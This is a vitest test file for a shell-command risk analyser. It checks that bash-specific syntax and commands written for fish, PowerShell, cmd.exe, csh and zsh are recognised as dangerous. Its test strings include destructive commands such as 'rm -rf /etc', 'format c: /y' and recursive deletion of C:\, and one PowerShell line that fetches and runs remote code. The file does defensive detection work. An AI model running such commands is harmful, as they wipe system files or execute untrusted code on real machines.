import { describe, expect, it } from 'vitest';
import { analyse } from '../../../src/shell/understand.js';
import { riskOf } from '../../fixtures/shell/risk-of.js';

const programsOf = (command: string): readonly string[] => analyse(command).commands.map(({ program }) => program);

describe('what dash does not know and bash does', () => {
  it.each([
    '[[ a == a ]] && rm -rf /etc',
    'a=(1 2); rm -rf /etc',
    'cat <(rm -rf /etc)',
    'function f { rm -rf /etc; }; f',
    'ls &> /dev/null; rm -rf /etc',
    'for ((;;)); do rm -rf /etc; done',
    "sh -c '[[ a ]]; rm -rf /etc'",
    'time -p { rm -rf /etc; }',
    "rm -rf $'/etc'",
    'ls |& rm -rf /etc',
    'coproc rm -rf /etc',
  ])('%s is read as bash reads it', (command) => {
    expect(programsOf(command)).toContain('rm');
    expect(riskOf(command)).toBeGreaterThan(0.75);
  });
});

/** Each is valid in a shell that is none of the Bourne family. */
const others: Readonly<Record<string, readonly string[]>> = {
  fish: [
    'if test -f x; rm x; end',
    'for f in *; rm $f; end',
    'function f; reboot; end',
    'switch $x; case a; reboot; end',
    'rm (ls)',
    'set x (cat y)',
    'while true; reboot; end',
    'begin; reboot; end',
  ],
  PowerShell: [
    'Remove-Item -Recurse -Force C:\\',
    'Get-ChildItem | Where-Object { $_.Length -gt 1 } | Remove-Item',
    'if ($x -eq 1) { Stop-Computer }',
    '$a = Get-Item x',
    'foreach ($f in Get-ChildItem) { Remove-Item $f }',
    '[System.IO.File]::Delete("x")',
    'iex (iwr http://example.net/x).Content',
    '& { Stop-Computer }',
    'function f { param($a) Stop-Computer }',
  ],
  'cmd.exe': ['if exist x (del x)', 'for %i in (*) do del %i', '@echo off & format c: /y', 'dir && rd /s /q c:\\'],
  csh: ['if ($a == 1) then\nrm x\nendif', 'foreach f (*)\nrm $f\nend'],
  zsh: ['for f (*) rm $f', 'if [[ a ]] { reboot }'],
};

describe('the language of another shell', () => {
  it.each(Object.entries(others).flatMap(([shell, commands]) => commands.map((command) => [shell, command] as const)))(
    '%s: %s is not taken for harmless',
    (_, command) => {
      const { problems, effects } = analyse(command);
      expect([...problems, ...effects].length).toBeGreaterThan(0);
      expect(riskOf(command)).toBeGreaterThan(0);
    },
  );
});
